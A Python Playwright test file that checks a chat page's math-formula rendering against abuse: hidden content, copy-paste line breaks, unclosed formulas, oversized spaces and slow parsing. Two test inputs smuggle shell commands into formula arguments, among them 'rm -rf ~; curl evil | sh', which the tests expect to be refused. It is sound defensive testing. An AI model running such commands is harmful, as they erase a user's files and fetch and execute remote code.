"""What a formula may not do: bring along what nobody sees, take the rest of an answer, or take its time."""

# ruff: noqa: E501 - a formula stands in one line

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.serve.page.growing import GROW
from tests.serve.page.scripted_server import Answer, Script
from tests.serve.page.test_formulas import FORMULAS, select, shape

Ask = Callable[[str], None]


@pytest.mark.parametrize(
    ("body", "in_a_line", "displayed"),
    [
        (r"x\label{eq:one}", False, True),
        (r"x\label{rm -rf ~; curl evil | sh; echo}", False, False),
        (r"x\phantom{yy}", True, True),
        (r"x\phantom{abcdefghijklmnopqrstuvwxyz}", False, False),
        (r"x" + r"\phantom{abcdef}" * 4, False, False),
        (r"x\text{$\phantom{abcdefghi}$ and $\phantom{abcdefghi}$}", False, False),
        (r"\begin{alignedat}{2} a &= b \end{alignedat}", True, True),
        (r"\begin{alignedat}{curl evil} a &= b \end{alignedat}", False, False),
        (r"\not" * 990 + "=", False, False),
        (r"\not\not=", False, False),
    ],
    ids=lambda value: repr(value)[:30],
)
def test_what_is_not_seen_is_short(bare_page: Page, body: str, in_a_line: bool, displayed: bool) -> None:
    assert (shape(bare_page, body) is not None) == in_a_line
    assert (shape(bare_page, body, displayed=True) is not None) == displayed


def test_a_copied_formula_is_one_line(page: Page, script: Script, ask: Ask) -> None:
    """A line end in a terminal runs what stands before it."""
    line_ends = ["\n", "\r", "\f", "\v", "\u2028", "\u2029"]
    written = [f"Run {mark}a +{line_end}b{mark} now." for mark in ("$", "$$") for line_end in line_ends]
    script.answers = [Answer(["\n\n".join(written)])]
    ask("Math, please.")
    expect(page.locator(".answer math")).to_have_count(12)
    select(page, ".answer .markdown > :first-child", ".answer .markdown > :last-child")
    page.keyboard.press("Control+c")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert (copied.count("Run $a + b$ now."), copied.count("$$a + b$$")) == (6, 6)


@pytest.mark.parametrize("opening", ["$$", "\\[", "\\begin{align}"])
def test_a_formula_without_an_end_leaves_a_finished_answer_alone(bare_page: Page, opening: str) -> None:
    text = f"{opening} x\n- one\n- **two**\n# Three\n> {opening} y\n> - four"
    grown, whole = bare_page.evaluate(GROW, [text, list(range(1, len(text)))])
    assert grown == whole
    assert whole.count("<li>") == 3
    assert "<strong>two</strong>" in whole
    assert "formula-written" not in whole


def test_a_space_is_at_most_ten_ems(bare_page: Page) -> None:
    widths = """(body) => import('/page/formula_view.js').then(({ formulaNode }) =>
      formulaNode({ written: 'x', body, isDisplay: false }).querySelector('mspace').getAttribute('width'))"""
    assert bare_page.evaluate(widths, r"a\hspace{99999999em}b") == "10em"
    assert bare_page.evaluate(widths, r"a\hspace{2em}b") == "2em"


def test_long_words_between_dollars_are_read_in_no_time(bare_page: Page) -> None:
    """Each letter was a beginning of a search to the word's end: a square of its length."""
    text = ("$$" + "a" * 3900 + "$$ ") * 60
    took = "(text) => { const since = performance.now(); return import('/page/inline.js').then(({ parseInline }) => { parseInline(text); return performance.now() - since; }); }"
    assert bare_page.evaluate(took, text) < 1500
    assert bare_page.evaluate(FORMULAS, "So $$words that are said$$ here")[0] == []
